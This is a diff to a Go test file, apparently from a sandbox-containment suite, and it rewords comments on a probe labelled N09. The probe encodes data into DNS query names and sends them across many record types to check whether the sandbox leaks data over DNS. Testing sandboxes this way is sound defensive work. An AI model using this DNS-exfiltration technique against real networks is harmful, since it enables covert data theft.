@@ -14,10 +14,10 @@ import (
 	"github.com/paddock-sandbox/paddock/attack/target"
 )
 
-// exfilData is what a program would smuggle out in names.
+// exfilData is data that a program would smuggle out in names.
 func exfilData() string { return "exfil-" + hex.EncodeToString([]byte("all the data")) }
 
-// question builds a question about a name of any bytes.
+// question builds a DNS query for a name of any bytes.
 func question(kind uint16, extra []byte, labels ...string) []byte {
 	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
 	for _, l := range labels {
@@ -31,8 +31,8 @@ func question(kind uint16, extra []byte, labels ...string) []byte {
 	return q
 }
 
-// ask sends a question to a server, and judges the answer: an address, or any
-// answer of somebody else than the gateway, is one.
+// ask sends a query to a server and judges the answer. An address is a success, and so is
+// any answer from a server other than the gateway.
 func ask(b *target.Brief, network, server string, q []byte) target.Try {
 	c, err := net.DialTimeout(network, server, waiting(b))
 	if err != nil {
@@ -74,7 +74,7 @@ func ask(b *target.Brief, network, server string, q []byte) target.Try {
 
 const gatewayDNS = target.GatewayAddr + ":53"
 
-// nameLeak is N09. The host looks whether anybody was asked.
+// nameLeak is N09. The host checks whether any server was queried.
 func nameLeak() []probe {
 	labels := append([]string{exfilData()}, strings.Split(target.Exfil, ".")...)
 	kinds := map[string]uint16{"A": 1, "AAAA": 28, "TXT": 16, "MX": 15, "NS": 2, "CNAME": 5, "NULL": 10, "SRV": 33, "HTTPS": 65, "SVCB": 64, "ANY": 255, "AXFR": 252, "PTR": 12, "none": 0, "private": 65280}
@@ -87,7 +87,7 @@ func nameLeak() []probe {
 			return atOnce(names, func(k string) target.Try { return ask(b, network, server, question(kinds[k], nil, labels...)) })
 		}
 	}
-	// What the gateway answers by itself about an allowed name is harmless.
+	// An answer of the gateway itself about an allowed name is harmless.
 	own := func(t target.Try) target.Try {
 		if t.Outcome == target.Reached {
 			return inside("%s", t.Detail)
